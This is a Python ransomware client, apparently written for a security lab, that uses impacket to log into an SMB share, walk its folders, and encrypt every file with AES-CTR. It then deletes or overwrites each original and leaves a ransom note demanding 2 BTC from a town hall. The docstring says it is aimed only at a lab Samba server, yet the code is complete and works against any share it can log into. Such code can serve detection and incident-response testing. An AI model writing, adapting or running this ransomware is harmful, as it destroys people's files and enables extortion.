#!/usr/bin/env python3
"""Lab ransomware client (impacket SMB2/3): walks a share, reads every file,
writes an encrypted version and destroys the original, drops ransom notes.
Styles: copy-delete (write NAME.locked then delete NAME) and overwrite-rename
(overwrite NAME in place with ciphertext then rename it to NAME.locked).
Only ever pointed at the lab's own Samba server inside the lab namespaces.
usage: ransom_smb.py HOST USER PASS SHARE STYLE DIR[,DIR...] [MAX_FILES]"""
import io, os, sys, time
from impacket.smbconnection import SMBConnection
from impacket.smb3structs import FILE_READ_DATA, FILE_WRITE_DATA, FILE_OVERWRITE_IF, FILE_OPEN, FILE_SHARE_READ
try:
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    def encrypt(data, key, nonce):
        e = Cipher(algorithms.AES(key), modes.CTR(nonce)).encryptor(); return e.update(data) + e.finalize()
except ImportError:  # stdlib fallback: SHA-256 keystream
    import hashlib
    def encrypt(data, key, nonce):
        out = bytearray(); c = 0
        while len(out) < len(data):
            out += hashlib.sha256(key + nonce + c.to_bytes(8, "big")).digest(); c += 1
        return bytes(a ^ b for a, b in zip(data, out))

NOTE = """VOS FICHIERS ONT ETE CHIFFRES / YOUR FILES HAVE BEEN ENCRYPTED
Tous les documents de la mairie sont chiffres (AES-256).
Pour les recuperer, contactez recovery@{onion} avec l'identifiant {id}
et payez 2 BTC sous 72 heures. Ne redemarrez pas les serveurs.
""".replace("{onion}", "lockbit-lab.onion")

def walk(conn, share, path):
    for f in conn.listPath(share, path + "\\*"):
        n = f.get_longname()
        if n in (".", ".."): continue
        p = path + "\\" + n
        if f.is_directory(): yield from walk(conn, share, p)
        elif not n.endswith(".locked") and n != "README_DECRYPT.txt": yield p, f.get_filesize()

def main():
    host, user, pw, share, style, dirs = sys.argv[1:7]
    maxf = int(sys.argv[7]) if len(sys.argv) > 7 else 1000
    key, nonce_base = os.urandom(32), os.urandom(8)
    conn = SMBConnection(host, host, sess_port=445, timeout=10)
    conn.login(user, pw, "MAIRIE")
    done = 0; seen_dirs = set(); t0 = time.time()
    for d in dirs.split(","):
        for path, size in list(walk(conn, share, "\\" + d.strip("\\"))):
            if done >= maxf or time.time() - t0 > 120: break
            buf = io.BytesIO(); conn.getFile(share, path, buf.write)
            ct = encrypt(buf.getvalue(), key, nonce_base + done.to_bytes(8, "big"))
            if style == "copy-delete":
                conn.putFile(share, path + ".locked", io.BytesIO(ct).read)
                conn.deleteFile(share, path)
            else:  # overwrite-rename
                tid = conn.connectTree(share)
                fid = conn.openFile(tid, path, desiredAccess=FILE_READ_DATA | FILE_WRITE_DATA | 0x00010000,  # + DELETE
                                    creationDisposition=FILE_OPEN, shareMode=FILE_SHARE_READ)
                off = 0
                while off < len(ct):
                    off += conn.writeFile(tid, fid, ct[off:off + 65536], off)
                conn.closeFile(tid, fid)
                conn.rename(share, path, path + ".locked")
            done += 1
            parent = path.rsplit("\\", 1)[0]
            if parent not in seen_dirs:
                seen_dirs.add(parent)
                conn.putFile(share, parent + "\\README_DECRYPT.txt", io.BytesIO(NOTE.replace("{id}", key[:6].hex()).encode()).read)
    conn.logoff()
    print(f"ransom_smb: {style}: {done} files encrypted, {len(seen_dirs)} notes", file=sys.stderr)

if __name__ == "__main__":
    main()
